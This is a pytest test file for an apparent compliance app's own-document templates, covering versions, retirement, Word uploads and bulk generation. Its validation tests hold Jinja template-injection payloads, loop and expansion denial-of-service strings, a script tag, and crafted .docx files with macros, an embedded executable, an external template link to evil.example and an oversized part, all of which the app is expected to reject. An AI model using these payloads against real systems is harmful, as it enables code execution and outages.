"""A company's own templates: written or brought as a Word file, asked, changed by versions, retired; never trusted."""

import io
import zipfile

import docx
import pytest
from pypdf import PdfReader
from sqlalchemy import select

from complianceai.storage.audit import audit
from complianceai.workspace.bulk import making
from tests.cast import ASHA, House, describe
from tests.workspace.bulk.tables import BULK, archive, as_csv, looked, sent, work_is_done
from tests.workspace.own.papers import (
    ANSWERS,
    LOOP,
    QUESTIONS,
    TEMPLATES,
    TEXT,
    brought,
    generated,
    made,
    word,
)


async def test_a_text_with_fields_is_asked_by_questions_and_makes_documents(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    own = await made(asha, company, questions=QUESTIONS)
    told = {each["name"]: each for each in own["questions"]}
    assert list(told) == ["name", "pay", "start_date", "remote", "city"]
    assert (told["start_date"]["type"], told["start_date"]["label"]) == ("date", "Start date")
    detail = (await asha.get(f"{TEMPLATES}/{own['id']}")).json()["data"]
    asked = {each["name"]: each for each in detail["groups"][0]["questions"]}
    assert asked["city"]["when"] == "remote == true"
    listed = (await asha.get(TEMPLATES, params={"companyId": company})).json()["data"]
    assert listed[0]["id"] == own["id"]
    assert own["id"] not in [each["id"] for each in (await asha.get(TEMPLATES)).json()["data"]]
    document = await generated(asha, company, own["id"], ANSWERS)
    text = document["current"]["text"]
    assert "Dear Asha \\*\\*Kulkarni\\*\\*," in text
    assert "₹50,000" in text
    assert "You work at home" not in text
    assert (document["templateId"], document["current"]["templateVersion"]) == (own["id"], 1)
    far = {**ANSWERS, "remote": "yes"}
    body = {"templateId": own["id"], "companyId": company, "userInputs": far}
    refused = await asha.post("/api/documents/generate", json=body)
    assert (refused.status_code, list(refused.json()["fields"])) == (422, ["userInputs.city"])
    near = await generated(asha, company, own["id"], {**far, "city": "Navi Mumbai, Maharashtra"})
    assert "in Navi Mumbai, Maharashtra." in near["current"]["text"]


async def test_a_change_is_a_version_and_documents_name_the_one_they_came_from(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    own = await made(asha, company, questions=QUESTIONS)
    first = await generated(asha, company, own["id"], ANSWERS)
    change = {
        "baseVersion": 1,
        "title": "Offer",
        "text": TEXT.replace("Dear", "Good day"),
        "questions": QUESTIONS,
    }
    changed = await asha.put(f"{TEMPLATES}/{own['id']}", json={**change, "note": "Kinder"})
    assert changed.json()["data"]["version"] == 2
    late = await asha.put(f"{TEMPLATES}/{own['id']}", json={**change, "text": "Other {{ name }}"})
    assert (late.status_code, late.json()["code"]) == (409, "workspace.template_changed")
    same = await asha.put(f"{TEMPLATES}/{own['id']}", json={**change, "baseVersion": 2})
    assert same.json()["code"] == "workspace.no_change"
    versions = (await asha.get(f"{TEMPLATES}/{own['id']}/versions")).json()["data"]
    assert [(each["number"], each["note"]) for each in versions] == [(2, "Kinder"), (1, "")]
    assert (await asha.get(f"/api/documents/{first['id']}")).json()["data"]["current"]["templateVersion"] == 1
    again = {"baseVersion": 1, "userInputs": ANSWERS}
    anew = await asha.post(f"/api/documents/{first['id']}/versions", json=again)
    assert anew.json()["data"]["templateVersion"] == 2
    assert "Good day" in anew.json()["data"]["text"]
    assert (await asha.post(f"{TEMPLATES}/{own['id']}/retire", json={})).status_code == 200
    body = {"templateId": own["id"], "companyId": company, "userInputs": ANSWERS}
    assert (await asha.post("/api/documents/generate", json=body)).json()[
        "code"
    ] == "workspace.template_retired"
    assert (await asha.get(TEMPLATES, params={"companyId": company})).json()["data"][0]["id"] != own["id"]
    pay = {"baseVersion": 2, "userInputs": {**ANSWERS, "pay": "60000"}}
    assert (await asha.post(f"/api/documents/{first['id']}/versions", json=pay)).status_code == 201
    assert (await asha.post(f"{TEMPLATES}/{own['id']}/retire", json={"retired": False})).status_code == 200
    async with house.database.reading() as connection:
        deeds = (await connection.execute(select(audit.c.deed).order_by(audit.c.number))).scalars().all()
    assert [each for each in deeds if each.startswith("template.")] == [
        "template.made", "template.changed", "template.retired", "template.taken_up",
    ]  # fmt: skip


async def test_a_word_file_with_fields_is_a_template_and_is_filled_in(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    reply = await brought(
        asha, company, word("Dear {{ name }},", "your pay is {{ pay|money }} from {{ start_date }}.")
    )
    assert reply.status_code == 201, reply.text
    own = reply.json()["data"]
    assert own["isWord"]
    assert [(each["name"], each["type"]) for each in own["questions"]] == [
        ("name", "text"), ("pay", "money"), ("start_date", "date"),
    ]  # fmt: skip
    document = await generated(asha, company, own["id"], {k: v for k, v in ANSWERS.items() if k != "remote"})
    assert (document["kind"], document["current"]["templateVersion"]) == ("file", 1)
    file = await asha.get(f"/api/documents/{document['id']}/versions/1/file")
    paper = docx.Document(io.BytesIO(file.content))
    assert [each.text for each in paper.paragraphs] == [
        "Dear Asha **Kulkarni**,", "your pay is ₹50,000 from 1 December 2026.",
    ]  # fmt: skip
    again = {"baseVersion": 1, "userInputs": {"name": "Bilal", "pay": "1", "start_date": "2026-12-01"}}
    anew = await asha.post(f"/api/documents/{document['id']}/versions", json=again)
    assert (anew.json()["data"]["number"], anew.json()["data"]["userInputs"]["name"]) == (2, "Bilal")
    other = {"name": "Chitra", "pay": "1", "start_date": "2026-12-01"}
    late = await asha.post(f"/api/documents/{document['id']}/versions", json={**again, "userInputs": other})
    assert late.status_code == 409


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("Dear {{ name }\n", "Line 1"),
        ("# A\n\n{% if a %}\nnever closed\n", "Line"),
        ("# A\n\n<script>alert(1)</script>\n", "Line 3"),
        ("Hello {{ Name }}", "in small letters"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "Line 1"),
        ("{{ company.__init__.__globals__ }}", "Line 1"),
        ("{{ clause('no.such') }}", "Line 1"),
        ("{% for a in range(100000) %}x{% endfor %}", "Line 1"),
        (LOOP, "at most"),
        ("{{ 'xxxxxxxxxx'" + "|replace('x','xxxxxxxxxx')" * 9 + " }}", "at most"),
        ("{{ " + "(" * 3000 + "a" + ")" * 3000 + " }}", "fewer things"),
        ("# A\n\n[[nowhere]]\n\n{{ name }}", "Line 3"),
        ("{% include 'site/layout.html' %}", "Line 1"),
        ("", "Write the text"),
    ],
)
async def test_what_is_wrong_with_a_text_is_told_by_line_and_nothing_is_kept(
    house: House, text: str, line: str
) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    body = {
        "companyId": company,
        "title": "Bad",
        "text": text,
        "questions": [{"name": "pay", "type": "text"}],
    }
    reply = await asha.post(TEMPLATES, json=body)
    assert reply.status_code == 422, reply.text
    assert line in reply.json()["fields"]["text"], reply.text
    home = f"/app/companies/{company}/documents/templates"
    shown = await asha.post(f"{home}/new", data={"title": "Bad", "text": text, "deed": "save"})
    assert shown.status_code == 422
    assert "No own template yet" in (await asha.get(home)).text


async def test_what_is_wrong_with_a_question_is_told_with_it(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    questions = [
        {"name": "name", "type": "spaceship"},
        {"name": "remote", "type": "yes_no", "if": "city"},
        {"name": "city", "type": "choice"},
    ]
    reply = await asha.post(
        TEMPLATES, json={"companyId": company, "title": "A", "text": TEXT, "questions": questions}
    )
    assert sorted(reply.json()["fields"]) == [
        "questions.city.choices",
        "questions.name.type",
        "questions.remote.if",
    ]
    wrong = [{"name": "city", "type": "text", "if": "remote", "is": "maybe"}]
    reply = await asha.post(
        TEMPLATES, json={"companyId": company, "title": "A", "text": TEXT, "questions": wrong}
    )
    assert list(reply.json()["fields"]) == ["questions.city.is"]
    as_words = {
        "companyId": company,
        "title": "A",
        "text": "\n{{ pay|money }}",
        "questions": [{"name": "pay", "type": "text"}],
    }
    told = (await asha.post(TEMPLATES, json=as_words)).json()["fields"]
    assert told["text"].startswith("Line 2: what is written as a number or an amount here is asked as words;")
    # Words of an answer never become part of a condition.
    sly = [
        {"name": "name", "type": "choice", "choices": ['a" or True or "', "b"]},
        {"name": "pay", "type": "money", "if": "name", "is": 'a" or True or "'},
    ]
    own = await made(asha, company, questions=sly)
    answers = {"name": "b", "start_date": "2026-12-01", "city": "Pune"}
    assert "₹" not in (await generated(asha, company, own["id"], answers))["current"]["text"]


async def test_a_word_file_that_does_more_than_say_words_is_refused_with_a_line(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    plain = word("Dear {{ name }}")

    def with_part(name: str, content: bytes, **replaced: tuple[bytes, bytes]) -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(stream, "w", 8) as new:
            for each in old.namelist():
                data = old.read(each)
                for part, (before, after) in replaced.items():
                    data = data.replace(before, after) if each.endswith(part.replace("_", ".")) else data
                new.writestr(each, data)
            new.writestr(name, content)
        return stream.getvalue()

    link = (
        b'<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://evil.example/a" '
        b'TargetMode="External"/></Relationships>'
    )
    for content, name, words in (
        (with_part("word/vbaProject.bin", b"x"), "a.docx", "macros"),
        (with_part("word/media/x.exe", b"MZ"), "a.docx", "embedded"),
        (with_part("x", b"", rels=(b"</Relationships>", link)), "a.docx", "outside"),
        (with_part("word/big.xml", b"0" * 80_000_000), "a.docx", ""),
        (word("Dear {{ name }", "Dear {{ other }}"), "a.docx", "Paragraph 1"),
        (word("ok", "{{ ''.__class__.__mro__ }}"), "a.docx", "Paragraph"),
        (b"no zip", "a.docx", ""),
        (plain, "a.pdf", ""),
        (b"PK" + b"0" * 6_000_000, "a.docx", ""),
    ):
        reply = await brought(asha, company, content, name)
        assert reply.status_code in {413, 422}, (name, words, reply.text)
        assert words in reply.text, reply.text
        page = await asha.post(
            f"/app/companies/{company}/documents/templates/new/word", data={}, files={"file": (name, content)}
        )
        assert page.status_code in {413, 422}
    assert (await brought(asha, company, b"0" * 40_000_000)).status_code == 413
    listed = (await asha.get(TEMPLATES, params={"companyId": company})).json()["data"]
    assert not [each for each in listed if each["id"].startswith("own-")]


async def test_many_papers_are_made_of_an_own_template_written_or_of_word(house: House) -> None:
    asha = await house.register(ASHA)
    company = await describe(asha)
    written = await made(asha, company, questions=QUESTIONS)
    content = word("Dear {{ name }},", "you begin on {{ start_date }} at {{ company.name }}.")
    of_word = (await brought(asha, company, content)).json()["data"]
    rows = as_csv(
        [["name", "pay", "start_date"], ["Asha", "100", "2026-12-01"], ["Bilal", "200", "2026-12-02"]]
    )
    first = await sent(asha, company, rows, written["id"], namedBy="name", keeps="true")
    await asha.post(f"{BULK}/{first['id']}/start")
    await work_is_done(house)
    assert (await looked(asha, first["id"]))["made"] == 2
    files = await archive(asha, first["id"])
    assert "₹200" in PdfReader(io.BytesIO(files["0003 Bilal.pdf"])).pages[0].extract_text()
    rows = as_csv([["name", "start_date"], ["Asha", "2026-12-01"], ["", "2026-12-02"]])
    second = await sent(asha, company, rows, of_word["id"], namedBy="name", keeps="true")
    assert (second["form"], second["faulty"]) == ("docx", 1)
    await asha.post(f"{BULK}/{second['id']}/start")
    await work_is_done(house)
    files = await archive(asha, second["id"])
    paper = docx.Document(io.BytesIO(files["0002 Asha.docx"]))
    assert [each.text for each in paper.paragraphs] == [
        "Dear Asha,",
        "you begin on 1 December 2026 at Rao Textiles LLP.",
    ]
    kept = (await asha.get("/api/documents")).json()["data"]
    assert sorted((each["kind"], each["templateId"]) for each in kept) == sorted(
        [("text", written["id"]), ("text", written["id"]), ("file", of_word["id"])]
    )


async def test_a_template_that_takes_too_long_ends_the_work_and_not_the_worker(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(making, "PAPER_SECONDS", 1.5)
    asha = await house.register(ASHA)
    company = await describe(asha)
    loop = f"{{% if slow == 'yes' %}}{LOOP}{{% endif %}}Paper of {{{{ slow }}}}"
    own = await made(asha, company, loop)
    rows = as_csv([["slow"], ["no"], *[["yes"]] * 5])
    batch = (await sent(asha, company, rows, own["id"]))["id"]
    await asha.post(f"{BULK}/{batch}/start")
    await work_is_done(house)
    found = await looked(asha, batch)
    assert (found["state"], found["made"], found["failed"], found["waiting"]) == ("failed", 1, 3, 2)
    assert "never ends" in found["reason"]
    assert len(await archive(asha, batch)) == 2
